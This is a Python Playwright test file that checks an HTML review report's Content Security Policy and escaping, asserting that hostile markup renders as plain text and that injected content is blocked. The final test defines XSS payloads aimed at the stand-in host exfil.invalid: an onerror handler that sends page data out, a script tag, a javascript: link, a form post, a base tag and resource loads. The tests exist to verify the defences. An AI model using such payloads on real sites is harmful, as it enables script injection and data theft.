"""The review page's safety in Chromium: the page works without a single CSP violation; a run whose every
string carries markup renders as literal text (no element, no handler, no script from data); and markup
injected past the escaping (as if it had a hole) can neither run script nor send data away."""

from __future__ import annotations

import pytest

from fr_data.folders.review_file import read_review
from fr_data.review import build_report, figures
from tests.fr_data.review.browsers import (images_seen_while_scrolling, open_page, show_section,
                                           wait_until)
from tests.fr_data.review.hostile import COLUMN, FOLDER, PAGE_TAGS, PAYLOADS, make_hostile_run

DOM = """() => {
  const all = Array.from(document.querySelectorAll('*'));
  return {
    handlers: all.flatMap(e => Array.from(e.attributes).filter(a => /^on/i.test(a.name))
                                    .map(a => e.tagName + ' ' + a.name)),
    tags: Array.from(new Set(all.map(e => e.tagName.toLowerCase()))),
    scripts: Array.from(document.scripts).filter(s => s.type !== 'application/json').length,
    srcs: Array.from(document.querySelectorAll('[src]')).map(e => e.getAttribute('src')),
    hrefs: Array.from(document.querySelectorAll('[href]')).map(e => e.getAttribute('href')),
    pwned: typeof window.__pwned,
    text: document.body.textContent,
    title: document.title,
    run: document.querySelector('header .run').textContent,
    keys: Array.from(document.querySelectorAll('#suspects .item')).map(e => e.getAttribute('data-key')),
  };
}"""


def test_every_control_works_without_a_csp_violation(chromium, tiny_demo, tmp_path):
    opened = open_page(chromium, tiny_demo[0] / "report" / "index.html")
    page = opened.page
    page.on("dialog", lambda dialog: dialog.accept())
    images = [done and width > 0 for done, width, _ in images_seen_while_scrolling(page)]
    assert len(images) > 10 and all(images)
    assert page.locator("figure.chart img").count() >= 4  # the charts load under img-src too
    show_section(page, "duplicates")
    page.locator("#duplicates .item [data-decision=keep]").first.click()
    page.locator("#duplicates .item").first.focus()
    page.keyboard.press("j")
    page.keyboard.press("d")
    assert page.inner_text("#review-status").startswith("2 decided")
    page.check("#hide-decided")
    assert page.evaluate("document.body.classList.contains('hide-decided')")
    with page.expect_download() as download:
        page.click("#export")
    download.value.save_as(tmp_path / "review.csv")
    assert len(read_review(tmp_path / "review.csv").keys("drop")) == 1
    page.click("#clear")
    assert page.inner_text("#review-status") == "0 decided"
    assert page.evaluate("getComputedStyle(document.querySelector('header')).position") == "sticky"  # CSS applied
    assert opened.violations() == [] and opened.console == [] and opened.errors == []
    opened.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    run = make_hostile_run(tmp)
    charts = figures.CHARTS
    figures.CHARTS = {}  # the charts are PNGs: no text of theirs reaches the HTML
    try:
        result = build_report(run.run, run.shards, tmp / "report", per_section=5)
    finally:
        figures.CHARTS = charts
    return run, result


def test_a_run_whose_every_string_is_markup_shows_it_as_text(chromium, hostile, tmp_path):
    run, result = hostile
    opened = open_page(chromium, result.index)
    show_section(opened.page, "suspects")
    dom = opened.page.evaluate(DOM)
    assert dom["pwned"] == "undefined"
    assert dom["handlers"] == []
    assert set(dom["tags"]) <= PAGE_TAGS, set(dom["tags"]) - PAGE_TAGS
    assert dom["scripts"] == 1
    assert all(s.startswith("img/") for s in dom["srcs"]) and all(h.startswith("#") for h in dom["hrefs"])
    # shown literally: the run folder (header, title, the note naming the missing sweep.parquet), run.json
    # values, bins, attribute names and keys
    assert dom["run"] == FOLDER and dom["title"].endswith(FOLDER)
    assert f"{run.run / 'sweep.parquet'} is missing" in dom["text"]
    info = run.run_info
    shown = [*info["thresholds"], info["thresholds"]["duplicate_cos"], *info["timings"], COLUMN,
             *run.suspect_keys, *PAYLOADS[:2]]
    assert [s for s in shown if s not in dom["text"]] == []
    assert sorted(dom["keys"]) == sorted(run.suspect_keys)
    assert "{{7*7}}" in dom["text"] and "\u2028" in dom["text"]
    # a decision on a hostile key is exported as that key
    key = dom["keys"][0]
    opened.page.locator("#suspects .item [data-decision=drop]").first.click()
    with opened.page.expect_download() as download:
        opened.page.click("#export")
    download.value.save_as(tmp_path / "review.csv")
    assert read_review(tmp_path / "review.csv").keys("drop") == [key]
    assert opened.violations() == [] and opened.errors == []
    opened.close()


EXFIL = "http://exfil.invalid"
INJECTED = f"""
<base href="{EXFIL}/">
<img src="x" onerror="window.__pwned=1;location='{EXFIL}/handler?'+encodeURIComponent(document.body.dataset.run)">
<script>window.__pwned=2;location='{EXFIL}/script'</script>
<a id="evil-link" href="javascript:window.__pwned=3;location='{EXFIL}/link'">x</a>
<form id="evil-form" action="{EXFIL}/form" method="post"><input name="d" value="secret">
<button id="evil-submit">send</button></form>
<img src="{EXFIL}/pixel.png"><object data="{EXFIL}/object"></object>
"""
BLOCKED = {"base-uri", "script-src-attr", "script-src-elem", "form-action", "img-src", "object-src"}


def test_injected_script_and_navigation_are_blocked(chromium, tiny_demo, tmp_path):
    """Markup placed in the page past the escaping: its handler, script, javascript: link and form post are
    refused by the CSP, nothing is requested from the network and the page does not navigate away."""
    page_html = (tiny_demo[0] / "report" / "index.html").read_text(encoding="utf-8")
    index = tmp_path / "index.html"
    index.write_text(page_html.replace("</main>", INJECTED + "</main>"), encoding="utf-8")
    opened = open_page(chromium, index)
    page = opened.page
    page.click("#evil-link", no_wait_after=True)
    page.click("#evil-submit", no_wait_after=True)  # a blocked submission never finishes navigating
    wait_until(page, f"new Set(window.__cspViolations.map(v => v.directive)).size >= {len(BLOCKED)}")
    assert {v["directive"] for v in opened.violations()} == BLOCKED
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.url == index.as_uri()
    sent = [u for u in opened.requests if not u.startswith("file://")]  # Playwright lists blocked ones too
    assert sent and all(opened.failed.get(u) == "csp" for u in sent), (sent, opened.failed)
    opened.close()
